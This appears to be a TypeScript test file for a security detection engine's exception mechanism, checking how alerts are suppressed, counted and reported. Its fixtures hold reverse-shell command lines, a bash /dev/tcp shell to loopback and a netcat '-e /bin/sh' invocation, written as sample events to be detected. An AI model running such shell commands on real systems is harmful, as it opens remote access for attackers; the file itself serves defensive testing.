import { describe, expect, it } from 'vitest';
import { bundledRulesDir, loadExceptionsText, loadRules, RuleDiagnosticCode as Code, RuleSet, unknownExceptionRules } from '../../src/rules/index.js';
import { execEvent } from './support/exec-event.js';
import { lineOf } from './fixtures.js';

const SEED = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';
const { rules } = await loadRules([bundledRulesDir()]);

const reverseShell = (parentExecutable: string) => execEvent({
  name: 'setsid', args: ['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'],
  parent: { name: 'bash', args: ['bash', '/opt/lab/selftest.sh'], executable: parentExecutable },
});

const EXCEPTIONS = `
[[exception]]
rule_id = "${SEED}"
query = 'process.parent.args == "/opt/lab/selftest.sh" and process.parent.executable == "/usr/bin/bash"'
comment = "lab self-test launches a loopback reverse shell on purpose"

[[exception]]
rule_id = "*"
query = 'user.name == "ci-runner"'
comment = "the CI user runs attack simulations"
`;

describe('exceptions', () => {
  it('silence matching alerts of the named rule, count them, and let others through', () => {
    const loaded = loadExceptionsText(EXCEPTIONS, 'exceptions.toml');
    expect(loaded.diagnostics).toEqual([]);
    const set = new RuleSet(rules, { exceptions: loaded.exceptions });
    expect(set.evaluate(reverseShell('/usr/bin/bash')).map((m) => m.rule.ruleId)).toEqual([]);
    expect(set.evaluate(reverseShell('/tmp/bash')).map((m) => m.rule.ruleId)).toEqual([SEED]);
    const stats = set.stats();
    expect(stats.suppressed).toBe(1);
    expect(stats.suppressedByRule).toEqual({ [SEED]: 1 });
    expect(stats.matchesByRule).toEqual({ [SEED]: 1 });
    expect(loaded.exceptions.stats().byEntry.map((e) => e.suppressed)).toEqual([1, 0]);
    expect(loaded.exceptions.stats().byEntry[0]!.line).toBe(lineOf(EXCEPTIONS, `rule_id = "${SEED}"`));
  });

  it('apply "*" entries to every rule', () => {
    const { exceptions } = loadExceptionsText(EXCEPTIONS, 'exceptions.toml');
    const set = new RuleSet(rules, { exceptions });
    const nc = execEvent({ name: 'nc', args: ['nc', 'h', '1', '-e', '/bin/sh'], user: { id: '1001', name: 'ci-runner' } });
    expect(set.evaluate(nc)).toEqual([]);
    expect(exceptions.stats().byEntry[1]!.suppressed).toBe(1);
  });

  it('report bad entries with positions, keeping the good ones', () => {
    const text = `[[exception]]
rule_id = "not-a-rule"
query = 'user.name == "a"'
comment = "x"

[[exception]]
rule_id = "*"
query = 'user.name === "b"'
comment = "y"

[[exception]]
rule_id = "*"
query = 'user.name == "c"'

[[exception]]
rule_id = "*"
query = 'user.name == "d"'
comment = "kept"
`;
    const { exceptions, diagnostics, ok } = loadExceptionsText(text, 'ex.toml');
    expect(ok).toBe(false);
    expect(diagnostics.map((d) => [d.code, d.line])).toEqual([
      [Code.InvalidValue, 2],
      [Code.QuerySyntax, 8],
      [Code.MissingField, 11],
    ]);
    expect(diagnostics[1]!.column).toBeGreaterThan(`query = 'user.name `.length);
    expect(exceptions.entries.map((e) => e.comment)).toEqual(['kept']);
  });

  it('warn when an entry names a rule that is not loaded', () => {
    const { exceptions } = loadExceptionsText(EXCEPTIONS.replace(SEED, '00000000-0000-4000-8000-000000000000'), 'e.toml');
    const warnings = unknownExceptionRules(exceptions, new Set(rules.map((r) => r.ruleId)));
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatchObject({ severity: 'warning', code: Code.ExceptionUnknownRule, file: 'e.toml' });
  });
});
